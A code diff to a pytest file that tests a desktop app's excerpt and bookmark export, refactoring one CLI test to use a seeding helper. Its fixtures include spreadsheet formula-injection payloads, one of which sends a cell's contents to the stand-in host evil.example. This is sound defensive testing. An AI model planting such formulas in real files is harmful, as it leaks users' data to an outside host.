@@ -17,7 +17,7 @@ from pathlib import Path
 import pytest
 
 from desktop.core.excerpts.export import Excerpt, export
-from tests.reliability.conftest import SEED_TEXTS, run_cli
+from tests.reliability.conftest import indexed_seed, run_cli
 
 FORMULAS = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
@@ -141,11 +141,7 @@ def test_html_export_escapes_every_field(tmp_path):
 
 
 def test_cli_exports_hostile_bookmarks(tmp_path):
-    data = tmp_path / "data"
-    folder = tmp_path / "in"
-    folder.mkdir()
-    (folder / "a.txt").write_text(SEED_TEXTS["maoming"], encoding="utf-8")
-    assert run_cli("index", folder, data_dir=data).returncode == 0
+    data = indexed_seed(tmp_path)
     doc = json.loads(run_cli("search", "工会", "--json", data_dir=data).stdout)["hits"][0]["id"]
     note = '=HYPERLINK("http://evil.example","x")\n# 标题\n```'
     assert run_cli("bookmark", "add", doc, "--note", note, data_dir=data).returncode == 0
